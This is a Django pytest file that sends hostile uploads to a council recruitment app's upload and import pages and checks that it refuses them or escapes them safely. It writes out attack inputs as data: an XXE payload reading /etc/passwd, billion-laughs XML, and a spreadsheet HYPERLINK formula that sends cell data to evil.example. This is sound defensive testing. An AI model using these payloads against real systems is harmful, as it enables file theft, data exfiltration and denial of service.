"""Hostile files, posted through the real upload pages as a person allowed to use them.

Each is refused with a clear, specific message (never a 500 or a stack trace) and nothing is
saved, or, where the file is readable, it is neutralised: only its text is kept, and that text
is shown escaped. The files are built in memory by tests/hostile/files.py.
"""

from __future__ import annotations

import csv
import html
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db.models import Model
from django.test import Client
from django.urls import reverse

from civictalent.accounts.models import User
from civictalent.core.models import AuditEvent, SearchDocument
from civictalent.documents import UNSAFE_XML
from civictalent.jdlibrary.models import HealthRecord, JDSection, JDVersion, JobDescription
from civictalent.jobs.models import Vacancy, VacancyImport
from civictalent.organisations.models import Organisation
from civictalent.salaries.models import PayScheme, PaySpine, SpinePoint
from tests.hostile import files
from tests.hostile.files import HostileFile

pytestmark = pytest.mark.django_db

DAMAGED_ZIP = "it is damaged (the zip inside is broken)"
# What the page must say for each refused document (a fragment of the exact message).
DOCUMENT_MESSAGES: dict[str, str] = {
    "zip-bomb-1gb": "is 1100.0 MB uncompressed; the limit is 20 MB per part",
    "zip-many-entries": "parts inside; the limit is 500",
    "zip-lying-sizes": DAMAGED_ZIP,
    "docx-xxe": UNSAFE_XML,
    "docx-billion-laughs": UNSAFE_XML,
    "odt-xxe": UNSAFE_XML,
    "odt-billion-laughs": UNSAFE_XML,
    "docx-not-xml": "part of it is not well-formed XML, so the file is damaged",
    "pdf-truncated": "We could not read this PDF: it is damaged or incomplete",
    "pdf-named-docx": "This file is called .docx but is not a Word document: it is a PDF.",
    "exe-named-pdf": "This file is called .pdf but is not a PDF: it is a Windows program. "
    "We do not accept programs.",
    "zip-named-docx": "This file is called .docx but is not a Word document: it is a zip "
    "archive, not a document.",
    "zip-pdf-polyglot": "This file is called .pdf but is not a PDF: it is a zip archive",
    "gif-html-polyglot": "This file is called .md but is not a Markdown text file: it is an image.",
    "empty": "The submitted file is empty.",
    "nul-bytes-txt": "it contains binary data (NUL bytes), not text",
    "exe-no-extension": "We cannot read this file: it is a Windows program.",
    "unknown-extension": "this file is .exe. Save it as .docx or .pdf.",
}
REFUSED_DOCUMENTS = [item for item in files.documents() if item.id in DOCUMENT_MESSAGES]
# Readable files with something hostile inside: only their text is kept.
NEUTRALISED_DOCUMENTS = [
    HostileFile("pdf-javascript-openaction", "scripted.pdf", files.pdf_with_javascript()),
    HostileFile("pdf-broken-xref", "broken-xref.pdf", files.pdf(broken_xref=True)),
    HostileFile("pdf-zip-polyglot", "poly.pdf", files.pdf_zip_polyglot()),
    HostileFile("html-named-md", "advert.md", files.html_page()),
]
HOSTILE_MARKERS = ("<script", "onerror=", "app.alert", "alert(document.cookie)", "root:x:0:0")


def test_every_hostile_document_has_an_expected_message() -> None:
    assert {item.id for item in files.documents()} == set(DOCUMENT_MESSAGES)


def page_text(response: Any) -> str:
    return html.unescape(response.content.decode())


def assert_refused(response: Any, message: str) -> None:
    """A page (not a 500) with the GOV.UK error summary and the specific message."""
    assert response.status_code in (200, 400), response.status_code
    text = page_text(response)
    assert "govuk-error-summary" in text
    assert message in text, f"expected {message!r} on the page"
    assert "Traceback" not in text


def media_files() -> set[Path]:
    root = Path(settings.MEDIA_ROOT)
    return {path for path in root.rglob("*") if path.is_file()} if root.exists() else set()


def counts(*models: type[Model]) -> dict[str, int]:
    return {model.__name__: model._default_manager.count() for model in models}


JD_MODELS = (JobDescription, JDSection, JDVersion, SearchDocument, AuditEvent, HealthRecord)


def upload(item: HostileFile) -> SimpleUploadedFile:
    return SimpleUploadedFile(item.name, item.data, content_type=item.content_type)


@pytest.fixture
def editor(people: dict[str, User | None]) -> Client:
    client = Client()
    user = people["editor_a"]
    assert user is not None
    client.force_login(user)
    return client


@pytest.fixture
def unchanged() -> Iterator[None]:
    """Nothing in the database or MEDIA_ROOT changes during the test."""
    before, media_before = counts(*JD_MODELS, Vacancy, VacancyImport), media_files()
    yield
    assert counts(*JD_MODELS, Vacancy, VacancyImport) == before
    assert media_files() == media_before


# --- JD upload (jdlibrary:contribute) --------------------------------------------------------


@pytest.mark.parametrize("item", REFUSED_DOCUMENTS, ids=lambda item: item.id)
def test_jd_upload_refuses_hostile_file(
    item: HostileFile, editor: Client, council_a: Organisation, unchanged: None
) -> None:
    response = editor.post(
        reverse("jdlibrary:contribute"),
        {"organisation": council_a.pk, "document": upload(item)},
    )
    assert_refused(response, DOCUMENT_MESSAGES[item.id])


def test_jd_upload_refuses_file_over_the_limit_before_reading_it(
    editor: Client, council_a: Organisation, unchanged: None
) -> None:
    with files.huge_text_file(files.over_limit_size(), ".txt") as handle:
        response = editor.post(
            reverse("jdlibrary:contribute"), {"organisation": council_a.pk, "document": handle}
        )
    assert_refused(response, "MB; the limit is 10 MB. Upload a smaller file or paste the text.")


@pytest.mark.parametrize("item", NEUTRALISED_DOCUMENTS, ids=lambda item: item.id)
def test_jd_upload_keeps_only_the_text_of_a_readable_hostile_file(
    item: HostileFile, editor: Client, council_a: Organisation
) -> None:
    media_before = media_files()
    response = editor.post(
        reverse("jdlibrary:contribute"), {"organisation": council_a.pk, "document": upload(item)}
    )
    assert response.status_code == 302, page_text(response)[:2000]
    jd = JobDescription.objects.get()
    stored = " ".join([jd.title, *(section.text for section in jd.sections.all())])
    assert "Data" in stored
    for marker in HOSTILE_MARKERS:
        assert marker not in stored
    assert media_files() == media_before  # the file itself is never kept
    for name in ("jdlibrary:review", "jdlibrary:detail"):
        page = editor.get(reverse(name, kwargs={"pk": jd.pk}))
        assert page.status_code == 200
        for marker in ("<script>alert", "onerror=alert", "app.alert"):
            assert marker not in page.content.decode()


# --- Health check (public: no one signs in) ---------------------------------------------------


@pytest.mark.parametrize("item", REFUSED_DOCUMENTS, ids=lambda item: item.id)
def test_health_check_refuses_hostile_file(item: HostileFile, unchanged: None) -> None:
    response = Client().post(reverse("healthcheck:checker"), {"document": upload(item)})
    assert_refused(response, DOCUMENT_MESSAGES[item.id])


def test_health_check_refuses_file_over_the_limit(unchanged: None) -> None:
    with files.huge_text_file(files.over_limit_size(), ".md") as handle:
        response = Client().post(reverse("healthcheck:checker"), {"document": handle})
    assert_refused(response, "the limit is 10 MB")


@pytest.mark.parametrize("item", NEUTRALISED_DOCUMENTS, ids=lambda item: item.id)
def test_health_check_reports_on_the_text_of_a_readable_hostile_file(
    item: HostileFile, unchanged: None
) -> None:
    response = Client().post(reverse("healthcheck:checker"), {"document": upload(item)})
    assert response.status_code == 200
    body = response.content.decode()
    assert "govuk-error-summary" not in body
    assert "Data" in body
    for marker in ("<script>alert", "onerror=alert", "app.alert"):
        assert marker not in body


# --- Vacancy import (jobs:imports) ------------------------------------------------------------

XXE_XML = (
    '<?xml version="1.0"?><!DOCTYPE vacancies [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<vacancies><vacancy><reference>&xxe;</reference><title>T</title></vacancy></vacancies>"
)
LAUGHS_XML = (
    '<?xml version="1.0"?><!DOCTYPE vacancies [<!ENTITY a0 "lol">'
    + "".join(f'<!ENTITY a{n} "' + f"&a{n - 1};" * 10 + '">' for n in range(1, 9))
    + "]><vacancies><vacancy><reference>&a8;</reference></vacancy></vacancies>"
)
UNSAFE_IMPORT_XML = "This XML file declares a DTD or entities"
VACANCY_FILES: list[tuple[HostileFile, str]] = [
    (HostileFile("xml-xxe", "v.xml", XXE_XML.encode(), "application/xml"), UNSAFE_IMPORT_XML),
    (HostileFile("xml-billion-laughs", "v.xml", LAUGHS_XML.encode()), UNSAFE_IMPORT_XML),
    (HostileFile("xml-broken", "v.xml", b"<vacancies><vacancy>"), "This is not well-formed XML"),
    (
        HostileFile("json-deep", "v.json", b"[" * 50_000 + b"]" * 50_000),
        "This JSON is nested too deeply",
    ),
    (
        HostileFile("json-huge-number", "v.json", b'[{"reference": ' + b"9" * 5000 + b"}]"),
        "This JSON has a number thousands of digits long",
    ),
    (HostileFile("csv-nul", "v.csv", b"reference,title\nA1,T\x00\n"), "This is not a text file"),
    (HostileFile("docx-named-csv", "v.csv", files.real_docx()), "This is not a text file"),
    (
        HostileFile("csv-unbalanced-quote", "v.csv", b'reference,title\n"A1,T\n'),
        "This CSV file is not well formed",
    ),
    (
        HostileFile("csv-huge-field", "v.csv", b"reference,title\nA1," + b"x" * 200_000 + b"\n"),
        "This CSV file is not well formed (field larger than field limit",
    ),
    (HostileFile("exe-named-pdf", "v.pdf", files.exe_header()), "is not a CSV, JSON or XML file"),
    (
        HostileFile("csv-sent-as-exe", "v.csv", b"a,b\n", "application/x-msdownload"),
        "is not a CSV, JSON or XML file",
    ),
    (HostileFile("empty", "v.csv", b""), "The file is empty."),
]


@pytest.mark.parametrize(
    ("item", "message"), VACANCY_FILES, ids=[item.id for item, _ in VACANCY_FILES]
)
def test_vacancy_import_refuses_hostile_file(
    item: HostileFile,
    message: str,
    people: dict[str, User | None],
    council_a: Organisation,
    unchanged: None,
) -> None:
    client = Client()
    client.force_login(people["admin_a"])  # type: ignore[arg-type]
    response = client.post(
        reverse("jobs:imports", kwargs={"slug": council_a.slug}), {"file": upload(item)}
    )
    assert_refused(response, message)


def test_vacancy_import_refuses_file_over_the_limit(
    people: dict[str, User | None], council_a: Organisation, unchanged: None
) -> None:
    client = Client()
    client.force_login(people["admin_a"])  # type: ignore[arg-type]
    with files.huge_text_file(files.over_limit_size(), ".csv") as handle:
        response = client.post(
            reverse("jobs:imports", kwargs={"slug": council_a.slug}), {"file": handle}
        )
    assert_refused(response, "the limit is 10 MB. Split the vacancies into smaller files.")


# --- Pay scale imports (platform admins) ------------------------------------------------------

SPINE_FILES: list[tuple[HostileFile, str]] = [
    (
        HostileFile("formula-cells", "s.csv", b'point,annual_amount\n=1+1,"=HYPERLINK(""x"")"\n'),
        "point '=1+1' is not a whole number",
    ),
    (
        HostileFile("at-and-plus-cells", "s.csv", b"point,annual_amount\n+cmd,@SUM(A1)\n"),
        "annual_amount '@SUM(A1)' is not an amount of money",
    ),
    (
        HostileFile("huge-numbers", "s.csv", b"point,annual_amount\n" + b"9" * 5000 + b",1\n"),
        "is not a spine point: use 1 to",
    ),
    (
        HostileFile("huge-amount", "s.csv", b"point,annual_amount\n1," + b"9" * 5000 + b"\n"),
        "is too long to be an annual salary",
    ),
    (
        HostileFile("not-a-number", "s.csv", b"point,annual_amount\n1,NaN\n2,1e999\n"),
        "annual_amount 'NaN' is not an amount of money",
    ),
    (
        HostileFile("html-instead", "s.csv", files.html_page()),
        "the columns point, annual_amount are missing",
    ),
    (HostileFile("xlsx-named-csv", "s.csv", files.real_docx()), "is not a text file"),
    (HostileFile("exe-named-csv", "s.csv", files.exe_header()), "is not a text file"),
    (HostileFile("pdf-named-csv", "s.pdf", files.pdf()), "is not a CSV file"),
    (HostileFile("empty", "s.csv", b""), "The file is empty."),
    (
        HostileFile("over-1mb", "s.csv", b"point,annual_amount\n" + b"1,20000\n" * 140_000),
        "The file must be 1 MB or smaller",
    ),
]
PAY_MODELS = (PayScheme, PaySpine, SpinePoint, AuditEvent)


@pytest.mark.parametrize(("item", "message"), SPINE_FILES, ids=[item.id for item, _ in SPINE_FILES])
def test_pay_spine_import_refuses_hostile_file(
    item: HostileFile, message: str, people: dict[str, User | None]
) -> None:
    client = Client()
    client.force_login(people["platform_admin"])  # type: ignore[arg-type]
    before = counts(*PAY_MODELS)
    response = client.post(
        reverse("salaries:payscales_spine_import"),
        {
            "scheme_code": "hostile",
            "scheme_name": "Hostile scheme",
            "pay_year": "2025-26",
            "zone": "inner_london",
            "source": "A test",
            "file": upload(item),
        },
    )
    assert_refused(response, message)
    assert counts(*PAY_MODELS) == before


# --- CSV exports never start a cell with a formula --------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_salary_download_neutralises_formulas_in_council_names(
    people: dict[str, User | None], council_a: Organisation
) -> None:
    from civictalent.framework.models import Role
    from civictalent.framework.services import framework_load_starter

    framework_load_starter()
    role = Role.objects.filter(framework__is_default=True).first()
    assert role is not None
    council_a.short_name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    council_a.save(update_fields=["short_name"])
    client = Client()
    client.force_login(people["member_a"])  # type: ignore[arg-type]
    response = client.get(
        reverse(
            "salaries:download", kwargs={"kind": "role", "slug": role.slug, "file_format": "csv"}
        )
    )
    assert response.status_code == 200
    cells = cells_of(response.content.decode())
    assert any("HYPERLINK" in cell for cell in cells), "the council's row is in the download"
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]

    workbook = client.get(
        reverse(
            "salaries:download", kwargs={"kind": "role", "slug": role.slug, "file_format": "xlsx"}
        )
    )
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(workbook.content)).active
    assert sheet is not None
    values = [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert any("HYPERLINK" in str(value) for value in values)
    assert not [value for value in values if str(value).startswith("=")]


@pytest.mark.parametrize(
    ("name", "kwargs"),
    [
        ("jobs:import_template", {"file_format": "csv"}),
        ("salaries:payscales_spine_template", {}),
        ("salaries:payscales_grade_map_template", {}),
    ],
)
def test_csv_templates_have_no_formula_cells(
    name: str, kwargs: dict[str, str], people: dict[str, User | None]
) -> None:
    client = Client()
    client.force_login(people["member_a"])  # type: ignore[arg-type]
    response = client.get(reverse(name, kwargs=kwargs))
    assert response.status_code == 200
    cells = cells_of(response.content.decode())
    assert len(cells) > 1
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
